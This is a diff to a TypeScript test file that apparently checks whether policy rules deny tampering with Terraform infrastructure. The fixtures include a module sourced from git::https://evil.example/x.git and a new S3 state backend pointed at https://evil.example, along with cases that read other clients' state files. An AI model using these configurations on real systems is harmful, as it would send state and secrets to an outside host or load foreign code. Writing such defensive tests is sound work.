@@ -19,7 +19,7 @@ import {
   writeChange,
   type Proposal,
 } from './acts.ts';
-import { edited, program, withBlock, withRecord, type Estate } from './estate.ts';
+import { acmeAccount, edited, program, withBlock, withRecord, type Estate } from './estate.ts';
 import { behind, type Behaviour } from './front.ts';
 import type { Attempt, Outcome, Scenario } from './scenario.ts';
 import { robot, type World } from './world.ts';
@@ -194,7 +194,7 @@ const hatches: readonly Hatch[] = [
     trick: 'a module from elsewhere',
     edit: (estate) =>
       withBlock(estate, 'module', () => ({ x: { source: 'git::https://evil.example/x.git' } })),
-    rules: ['rules/plan-modules-local', 'rules/plan-unknown-guarded'],
+    rules: ['rules/plan-modules-local'],
     says: 'module from git::https://evil.example/x.git',
   },
   {
@@ -220,6 +220,19 @@ const hidden: readonly Hatch[] = [
     says: 'prevent_destroy is dropped',
   },
 ];
+
+function emptyStack(backend: JsonObject): JsonObject {
+  return {
+    terraform: {
+      required_providers: { cloudflare: { source: 'cloudflare/cloudflare', version: '5.14.0' } },
+      backend,
+    },
+    provider: { cloudflare: [{}] },
+    resource: {
+      cloudflare_zone: { preview: { account: { id: acmeAccount }, name: 'preview-shop.example' } },
+    },
+  };
+}
 
 export const configAndSource: readonly Scenario[] = [
   {
@@ -388,7 +401,26 @@ const text = (given: object): string => JSON.stringify(given).replace('203.0.113
       const stolen = await to({ s3: { bucket: 'state', key: 'borough-production.tfstate', region: 'auto' } });
       const staging = await to({ s3: { bucket: 'state', key: 'acme-staging.tfstate', region: 'auto' } });
       const local = await to({ local: { path: '/tmp/state' } });
+      const added = (backend: JsonObject): Promise<Outcome> =>
+        riding(world, {
+          edit: (estate) => ({ ...everyday.edit(estate), 'acme-preview': emptyStack(backend) }),
+        });
+      const taken = await added({ s3: { bucket: 'state', key: 'acme-staging.tfstate', encrypt: true } });
+      const carried = await added({
+        s3: { bucket: 'state', key: 'acme-preview.tfstate', endpoints: { s3: 'https://evil.example' } },
+      });
       const refusal = { exit: 'denied', checks: ['rules/plan-backend-unchanged'] } as const;
+      const unregistered = {
+        exit: 'denied',
+        checks: [
+          'record',
+          'rules/plan-backend-unchanged',
+          'rules/plan-one-client',
+          'rules/plan-places-owned',
+          'rules/record-client-match',
+          'rules/record-stacks-match',
+        ],
+      } as const;
       const says = 'the backend is another one than before';
       return {
         honest: [honest],
@@ -396,6 +428,18 @@ const text = (given: object): string => JSON.stringify(given).replace('203.0.113
           { trick: "another client's state", outcome: stolen, ...refusal, says },
           { trick: 'the state of staging', outcome: staging, ...refusal, says },
           { trick: 'a local state', outcome: local, ...refusal, says },
+          {
+            trick: 'a new stack takes the state of one that does not change',
+            outcome: taken,
+            ...unregistered,
+            says: 'the same state as acme-',
+          },
+          {
+            trick: 'a new stack has its state elsewhere',
+            outcome: carried,
+            ...unregistered,
+            says: 'the state would lie on a server that may hold none',
+          },
         ],
       };
     },
